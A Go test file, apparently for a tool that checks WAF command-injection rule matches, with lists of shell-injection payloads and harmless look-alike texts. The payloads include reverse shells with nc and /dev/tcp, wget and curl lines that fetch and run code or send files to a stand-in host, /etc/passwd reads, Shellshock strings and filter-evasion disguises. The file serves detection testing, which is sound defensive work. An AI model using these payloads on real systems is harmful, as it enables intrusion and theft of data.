package confirm

import (
	"fmt"
	"os/exec"
	"strings"
	"testing"
)

// commands are texts by the rule that matches them, which a shell runs.
var commands = map[int][]string{
	932130: {
		"$(id)", "a$(cat /etc/hosts)b", "x`id`", "<(cat a)", ">(tee b)", "${IFS}", "a${x:-id}b", "${x#y}", "$[3*4]", "$[]", "/etc/pa[s]swd", "/b[i]n/sh",
		"/usr/[b]in/env", "/[e]tc/hosts", "$(whoami$())", "We had $(uname -a) for lunch.", "%24(id)", "&#36;(id)", `\u0024(id)`, "${!x}",
	},
	932160: {"cat /etc/passwd", "/bin/ab", "bin/visudo", "$SHELL -c x", "see /etc/shadow", `run("/usr/bin/ab")`, "we read of nc -lp 1 -e /bin/sh there", "x >& /dev/tcp/192.0.2.1/9", "cmd=/bin/unxz -c a", "a;cat$IFS/etc/hosts", "/usr/bin/perl -e 1"},
	932171: {"() { :;}; id", "() {", "() { (a)=>\\", "() { :; }\nid", "() { { a;}b; }; id", "a\r\n() { _; } >_[$($())] { id; }", "() { :;}<<EOF", "() { 0 <<a <<b <<c; } x", "() { 0; } bash -c id", "() { x() { _; }; x() { _; } <<a; } b", "()%20%7B%20:;%7D;%20id"},
	932230: {"() { :;}; /bin/sh -c id", ";gcc12.2<<<x", ";c89 -wrapper sh,-c,id .", "time sh -c id", "nohup sh -c id", ";env --version", "a; sh -c 'id'", "sudo sh -c id"},
	932235: {
		"x; sleep 4", "fields @a | sort /etc/hosts", "x | sort ./a.py | limit 3", "x; command ls -l > /dev/null", "x `command > /tmp/a`", "https://a; env #", "\x01;env\x00", "\u200bx; ls -l\u00a0", "x && ifconfig", "Is && ifconfig the one, or not?", "We asked ; sleep 7 and waited.", "| netstat -an", "; cat /etc/hosts", "a|wget http://h.example/x",
		"x || curl -d @a http://h.example", "x;find /srv -name a -exec cat {} +", ";perf --version", ";column -b file", "time ifconfig", "strace ifconfig", ";trap 'rm a' EXIT",
		"time; ansible all -m ping", `"; c'a't /etc/hosts`, `; c\at /etc/hosts`, "; ca$@t /etc/hosts", "; cat$IFS/etc/hosts", "; cat${IFS}/etc/hosts", "; /usr/bin/id", "; /???/c?t /etc/hosts",
		"; X=1 wget http://h.example", "; sudo -u root id -u", `x" || echo db 00 01 02 03 04 05 06 >> f`, `| echo "content-type: a/b"`, "x||CMD=$'{cmd}';$CMD", "x\nwget http://h.example/a",
		"; cat </etc/hosts", "It is ; cat /etc/hosts that we talked about at lunch.", "a%3Bcat%20/etc/hosts", `q="sleep 9 #`, "; ping -c 3 192.0.2.1", "&& whoami", "a&&nc -e /bin/sh h.example 1",
	},
	932250: {"ls -l /etc", "ls a b", "\x7f\x1b[1mls -l /etc\x1b[0m", "ksh -c x", "aa-disable x", "$((7))z -wrapper sh,-c,id .", "a; $(( 7 ))z -wrapper sh,-c,id"},
	932260: {"gunzip -c /var/log/a.gz", "python3.11 x", "ansible-config dump", "ansible-playbook site.yml", "chef-shell", "ansible-console", "whoami;0", "time bsdtar", "printf x|base64 -d|sh", "netstat"},
	932270: {"~+", "~-", "~-1", "~+5", "echo ~-", "a=~+/b"},
	932280: {"{,id}", "{cat,/etc/hosts}", "l{s,}", "{l,-lh}s", "c{a,oun}t", "We read about {,ip,a} instead.", "{,ifconfig,eth0}", "{id,}", "\u200b{l,-lh}s\u00a0"},
	932330: {"!-1", "!-1!-2", "\x01!-1!-2", "a; !-3", "echo '!-0'"},
	1010151: {
		"8.8.8.8; cat app.py", "x; id", "x;cat;id;y", "x;cat /etc/hosts;y", "x;id;y", "https://a.example; pwd", "`id`", "a && id", "x| id", "\nid", "x; aws s3 ls", "x; ps aux", "curl -d @index.js http://h.example",
		";cat index.js", "|id", ";$0 -c id", "; $u cat /etc$u/hosts", "$u/bin$u/cat$u $u/etc$u/hosts$u", "a);id", "a|id|", "& id", ";+$u+cat+/etc$u/hosts+\\#", ";/tmp/a", "wget http://h.example/a -O /tmp/a; /tmp/a;", "().{.:;.};.curl -o /tmp/b h.example; /tmp/b;",
	},
	932340: {";ps", ";env", ";set", "&aptitude", "x.php?cmd=ls", ";whoami", "|id", "|id|"},
}

// texts are by the rule that matches them, which no shell runs: what people, pages and programs write.
var texts = map[int][]string{
	932130: {
		"https://ads.example/s?id=${UUID}&x=1", "Hello ${name}, your order is on its way.", "[$LATEST]", "pages/[...slug]/index", "/html/body[1]/div[2]/a[3]",
		"news /n[y]uz/ noun", "/ny[oo]/, /n[e]w/ or /n[y]oo'li:n/", "/sync/https://a.example/p?x=1&id=${uuid}", `id("menu")/div[1]/p[2]`, "Jane Roe <jane@mail.example> (https://roe.example)", "<b>The list</b> (click to show)", "$(this).hide() is how the page hides its menu",
		"The value `count` is a number in all of our reports.", "#{name} and ${name} are the same in our template",
	},
	932160: {"node node_modules/.bin/tool .", "./node_modules/.bin/lint .", "#!/usr/bin/env node\nlet a", "all of it goes to /dev/null", "It was in /usr/bin/perf before.", "Read about /bin/ps (or top).", "-rwxr-xr-x 1 root root 10 Jun 7 /usr/bin/perf", "see http://a.example/cgi-bin/find here"},
	932171: {"a\r\n() { :; }just words"},
	932230: {"sudo: ana : USER=root ; COMMAND=/bin/sh -c echo done; LANG=en", "How are you? Time to talk with him. Say: hello", "Is it time to go?\nTime flies."},
	932235: {
		"Hi,\nnice work yesterday!", "\nfind attached the minutes", "It's time to find a new job; time flies", "update & confirm (order", "Count (Dracula)", "seats 6; select colours only",
		"Salt & pepper; more of it next week", "a=1&time=2&id=3", "read&nbsp;mail", "| Name | Time | Type |\n|---|---|---|\n| a | b | c |",
		"The `find` command looks for files in a directory, `sort` puts them in order.", "Use the `time` of day, or the `id` of the user, in your query.",
		"We fixed it; watch out for more", "Tea | cut flowers | more", "if (a) { return b; }\nexport default c;\n", "query Q {\n  id\n  file {\n    type\n  }\n}", "first;\nlast;\ntype;\n", "fields @timestamp, @message | sort @timestamp desc | limit 20", "filter @message like /timeout/ | stats count() by bin(1h) | sort @timestamp asc", "\nSend what it prints to nowhere, as in `command > /dev/null 2>&1`.\n",
		"- enh(css) added `less` alias (#31) [Jane Roe]", "struct entry {\n    struct head;  /* list\n                     head */\n}", "which is what I said; which was wrong", "Tom & who else?", "and || type of thing",
	},
	932250: {"it was $((7)) in all of the lists", "$((7", "Time to go\nis now", "the list\nls is short for it in our notes, as everybody here knows"},
	932260: {"ansible-core", "ansible-playbook", "ansible-lint", "chef-client", "Base64url", "dpkg removes all of the files of a package.", "Python3 library for programs", "${BASE64_UID}", "https://a.example/?v=3&compression=base64"},
	932270: {"0~-0.24!1~-0.29!2~-0.48", "AF31~-1~YAAQ~-1~-1~0", "It cost about a~-b"},
	932280: {"lib/{cjs,esm}/**", "*.{js,json,md}", "{{1,2,3},{4,5,6}}", "src/**/*.{test,spec}.js", "{src,third_party}/**", `{"a":1,"b":2}`},
	932330: {"T1sF!-915147122!a.example!7003", "b,af,!c,!-9w,,,", "wow!-2"},
	1010151: {
		"a=1&id=3&w=2", "Tea; who wants some?", "cats & dogs; id cards", "return a;\n  id;\n", "| id | name | type |\n|----|------|------|\n", "The `id` of a user is a number.",
		"query {\n  id\n  name\n}", "a.html;w=300", "It is in /tmp/a; /tmp/a is mine", "The folders are /home/x; /tmp/y;", "Come in; head straight on to the left", "id&name&type", "Rock & w", "zebra;cat;nose", "pins;Cut;tail;wings", "See the head; who is it?",
	},
	932340: {"DOB=20240702&T=1719903633000&POEX=W", "data-type=w", "Do you want it?\nReply now, w", "before the call of\nset\nzero"},
}

func TestATextThatAShellRunsIsConfirmed(t *testing.T) {
	for rule, all := range commands {
		for _, text := range all {
			if reason, denied := Denied(Match{Rule: rule, Text: text}); denied {
				t.Errorf("%d %q: %s", rule, text, reason)
			}
		}
	}
}

func TestATextThatNoShellRunsIsDenied(t *testing.T) {
	for rule, all := range texts {
		for _, text := range all {
			if _, denied := Denied(Match{Rule: rule, Text: text}); !denied {
				t.Errorf("%d %q is confirmed", rule, text)
			}
		}
	}
}

func TestAFlagInTheAddressOfAPageIsNoCommand(t *testing.T) {
	const address = "https://a.example/?x=1&hostname&y=2"
	for text, want := range map[string]bool{address: true, address + "&& id -u": false, "https://a.example/?x=1&whoami": false, "x & hostname -f": false} {
		if _, denied := Denied(Match{Rule: 932235, Text: text, Place: Header}); denied != want {
			t.Errorf("%q: denied %v", text, denied)
		}
	}
}

// Honest sentences beside a command do not hide it where a shell still comes to it.
func TestNoSentenceHidesACommand(t *testing.T) {
	before := strings.Repeat("We went to the market in the morning, and it was a fine day for all of us. ", 8)
	after := " # " + strings.Repeat("In the evening there was music on the square until it was late. ", 9)
	tables := "one | two | three | "
	for _, rule := range []int{932235, 1010151} {
		for _, text := range commands[rule] {
			separated := strings.IndexByte(";|&", text[0]) >= 0
			if separated && !strings.HasSuffix(text, "#") && !confirmedAs(rule, before+text+after) {
				t.Errorf("%d %q is hidden", rule, text)
			}
			if text[0] == '|' && len(text) > len("| w") && strings.Contains(text, " -") && !confirmedAs(rule, tables+text[1:]) {
				t.Errorf("%d %q is hidden in a table", rule, text)
			}
		}
	}
	for _, text := range []string{"`cat /etc/hosts`", "$(cat /etc/hosts)", "$(id)", "<(cat /etc/hosts)", "${IFS}", "x | y | z | cat /etc/hosts | w", "a | b | c | whoami | d"} {
		if !confirmedAs(932130, before+text+after) {
			t.Errorf("%q is hidden", text)
		}
	}
}

func TestEveryRuleOfTheShellHasTextsOfBothSides(t *testing.T) {
	for id, all := range commands {
		if len(all) == 0 || !Asked(id) {
			t.Errorf("%d is not confirmed", id)
		}
		if len(texts[id]) == 0 && id != 932171 {
			t.Errorf("%d has no text that is none", id)
		}
	}
}

// disguises are ways to write a name so that a shell takes it for the same.
var disguises = []func(name string) string{
	func(name string) string { return name },
	func(name string) string { return name[:1] + "''" + name[1:] },
	func(name string) string { return name[:1] + `""` + name[1:] },
	func(name string) string { return name[:1] + `\` + name[1:] },
	func(name string) string { return name[:1] + "$@" + name[1:] },
	func(name string) string { return name[:1] + "${nothing}" + name[1:] },
	func(name string) string { return `"` + name + `"` },
	func(name string) string { return "'" + name + "'" },
	func(name string) string { return "VAR=x " + name },
	func(name string) string { return "env " + name },
	func(name string) string { return "nohup " + name },
}

// Each mutant that sh runs has to be confirmed, with or without a sentence around it.
func TestAMutantThatRunsIsConfirmed(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Log("no sh: the mutants are not run, but all the same confirmed")
	}
	separators := []string{"; ", ";", "|", " | ", " && ", "||", "\n", "\r\n;", ";\t", "&&"}
	blanks := []string{" ", "\t", "  ", "${IFS}"}
	encode := []func(string) string{
		func(s string) string { return s },
		func(s string) string {
			return strings.NewReplacer(";", "%3B", " ", "%20", "|", "%7C", "&", "%26", "\n", "%0A").Replace(s)
		},
		func(s string) string { return strings.ReplaceAll(s, "'", "&#39;") },
	}
	around := [][2]string{{"", ""}, {"8.8.8.8", ""}, {"We talked about it at lunch", " #and nobody was sure."}, {"It's \"", ""}}
	for _, disguise := range disguises {
		for _, blank := range blanks {
			command := disguise("cat") + blank + "/etc/passwd"
			if sh != "" && !strings.Contains(command, "${IFS}") {
				if out, err := exec.Command(sh, "-c", command).Output(); err != nil || !strings.Contains(string(out), "root") {
					t.Fatalf("%q does not run: %v", command, err)
				}
			}
			for _, separator := range separators {
				for _, a := range around {
					for i, code := range encode {
						text := code(a[0] + separator + command + a[1])
						if _, denied := Denied(Match{Rule: 932235, Text: text}); denied {
							t.Errorf("encoding %d: %q is denied", i, text)
						}
					}
				}
			}
			for _, form := range []string{"`%s`", "$(%s)", "x$(%s)y", "<(%s)"} {
				if text := fmt.Sprintf(form, command); !confirmedAs(932130, text) {
					t.Errorf("%q is denied", text)
				}
			}
		}
	}
}

func confirmedAs(rule int, text string) bool {
	_, denied := Denied(Match{Rule: rule, Text: text})
	return !denied
}
